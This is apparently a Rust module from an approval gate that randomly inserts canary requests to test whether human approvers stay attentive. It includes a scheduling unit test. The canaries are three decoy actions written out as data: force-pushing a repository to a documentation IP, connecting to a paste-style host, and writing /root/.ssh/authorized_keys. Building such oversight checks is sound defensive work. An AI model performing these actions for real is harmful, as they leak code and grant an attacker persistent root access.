//! When a test of attention is due, and what it is about: questions about something that nobody attempts, and that a reader
//! says no to. The gate puts them.

use std::collections::HashSet;

use tollgate_policy::action::{Access, Action, Connect, Exec, Form, Image, PathAccess, Target};
use tollgate_policy::digest::sha256_hex;
use tollgate_policy::path::AbsPath;
use tollgate_policy::raw::Raw;

use crate::ask::History;

/// Within so many questions after one is due it is put: when, nobody can tell beforehand.
const SPREAD: u64 = 8;

/// Those of a run.
#[derive(Debug, Default)]
pub struct Canaries {
    /// Read from the ledger when the first question is put.
    history: Option<History>,
    put: u64,
    open: HashSet<String>,
}

impl Canaries {
    /// A number for the next one that follows from the run's random id: approvers can't count to it.
    #[must_use]
    pub fn seed(&self, run: &str) -> u64 {
        let hex = sha256_hex(format!("{run} {}", self.put).as_bytes());
        hex.get(..8).and_then(|hex| u64::from_str_radix(hex, 16).ok()).unwrap_or(0)
    }

    /// Whether the next one is due, after one more question of a person: with it, no more than `share` of a hundred are tests.
    pub fn is_due(&mut self, share: u64, seed: u64, before: impl FnOnce() -> History) -> bool {
        let history = self.history.get_or_insert_with(before);
        history.asked += 1;
        let tests = history.tests + 1;
        let needed = tests.saturating_mul(100).div_ceil(share.max(1)) + seed % SPREAD;
        share > 0 && history.asked >= needed
    }

    /// It was put.
    pub fn put(&mut self, id: &str) {
        self.put += 1;
        if let Some(history) = &mut self.history {
            history.tests += 1;
        }
        self.open.insert(id.to_owned());
    }

    /// It has ended; whether it was one.
    pub fn end(&mut self, id: &str) -> bool {
        self.open.remove(id)
    }

    /// Those that are open.
    #[must_use]
    pub fn open(&self) -> Vec<String> {
        self.open.iter().cloned().collect()
    }
}

/// What no careful reader approves, in an order that depends on the seed. Names and addresses are those of documentation (RFC 2606, RFC 5737).
#[must_use]
pub fn temptations(seed: u64) -> [Action; 3] {
    let command = |words: &[&str]| {
        let program = words.first().copied().unwrap_or_default();
        let image = Image {
            executable: AbsPath::new(format!("/usr/bin/{program}")).ok(),
            form: Form::Native,
            writable: false,
            sha256: None,
        };
        let argv = words.iter().map(|word| Raw::from(*word)).collect();
        Action::Exec(Exec { given: program.into(), image, argv, cwd: AbsPath::root() })
    };
    let name = format!("paste-{:04x}.example.net", seed & 0xffff);
    let key = AbsPath::new("/root/.ssh/authorized_keys").unwrap_or_else(|_| AbsPath::root());
    let mut all = [
        command(&["git", "push", "--force", "http://203.0.113.7/mirror.git", "--all"]),
        Action::Connect(Connect { target: Target::Name(name), port: 8443 }),
        Action::Path(PathAccess { path: key, access: Access::Write }),
    ];
    all.rotate_left(usize::try_from(seed % 3).unwrap_or(0));
    all
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn never_more_than_the_share_and_never_far_behind_it() {
        for share in [0, 1, 2] {
            let (mut canaries, mut put) = (Canaries::default(), 0);
            let begun = History { asked: 30, tests: 0 };
            for asked in 31..5_000_u64 {
                if canaries.is_due(share, asked % 7, || begun) {
                    canaries.put(&asked.to_string());
                    put += 1;
                }
                assert!(put * 100 <= share * asked, "{put} of {asked}");
                assert!((put + 1) * 100 + share * SPREAD >= share * asked || share == 0, "{put} of {asked}");
            }
            assert_eq!(put > 0, share > 0);
        }
    }
}
